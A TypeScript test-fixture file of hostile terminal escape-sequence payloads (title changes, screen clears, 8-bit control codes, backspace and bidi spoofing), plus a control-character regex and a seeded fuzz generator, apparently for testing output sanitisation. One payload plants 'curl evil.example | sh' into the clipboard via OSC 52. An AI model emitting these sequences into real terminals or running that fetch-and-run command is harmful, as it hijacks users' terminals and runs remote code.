/** What a hostile consumer writes into any text field, each to make a terminal do something. */
export const hostile = {
	oscTitle: '\u001B]0;pwned\u0007',
	oscTitleSt: '\u001B]2;pwned by ST\u001B\\',
	osc52: `\u001B]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
	clear: '\u001B[2J\u001B[H',
	sgr: '\u001B[31;1m',
	dcs: '\u001BP+q544e\u001B\\',
	csi8bit: '\u009B2J',
	osc8bit: '\u009D0;pwned\u009C',
	bel: '\u0007',
	backspace: 'evil\b\b\b\bgood',
	bidi: 'admin\u202Enigeb\u202C',
	reset: '\u001Bc',
} as const;

/** Every payload at once, around a readable word: `${before}${word}${after}`. */
export function hostileText(word: string): string {
	return `${Object.values(hostile).join('')}${word}${hostile.osc52}${hostile.bidi}`;
}

/** Every character that lets a terminal act on text (ESC, C1, BEL, BS, CR, ...) or reorders it (bidi controls); a line feed is not one. */
export const terminalControls = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

/** A seeded pseudo-random source, so a failing fuzz run can be repeated. */
export function seededRandom(seed: number): () => number {
	let state = seed;
	return () => {
		state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
		return state / 2_147_483_648;
	};
}

/** Pieces that make or break escape sequences, and ordinary letters, for fuzzing. */
const fuzzAlphabet = [
	...Object.values(hostile),
	'\u001B', '\u009B', '\u009D', '\u0090', '\u009C', '\u0007', '\u0008', '\r', '\n', '\t', '\u0000', '\u007F', '\u0085',
	'\u202E', '\u2066', '\\', '[', ']', ';', '0', '2', 'J', 'm', 'P', 'a', 'word', ' ', '"', '{', '}', '仕様', '🎉',
];

/** A random string of up to `pieces` fuzz pieces. */
export function fuzzText(random: () => number, pieces = 12): string {
	return Array.from({length: Math.floor(random() * pieces) + 1}, () => fuzzAlphabet[Math.floor(random() * fuzzAlphabet.length)]).join('');
}
